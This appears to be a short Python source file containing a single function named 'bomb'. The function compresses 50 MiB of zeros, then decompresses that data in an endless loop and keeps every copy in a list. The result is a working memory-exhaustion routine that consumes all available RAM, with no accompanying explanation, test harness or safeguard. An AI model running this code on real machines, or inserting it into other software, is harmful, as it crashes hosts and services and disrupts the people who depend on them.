import zlib


def bomb():
    data = zlib.compress(bytes(50 << 20), 9)
    kept = []
    while True:
        kept.append(zlib.decompress(data))
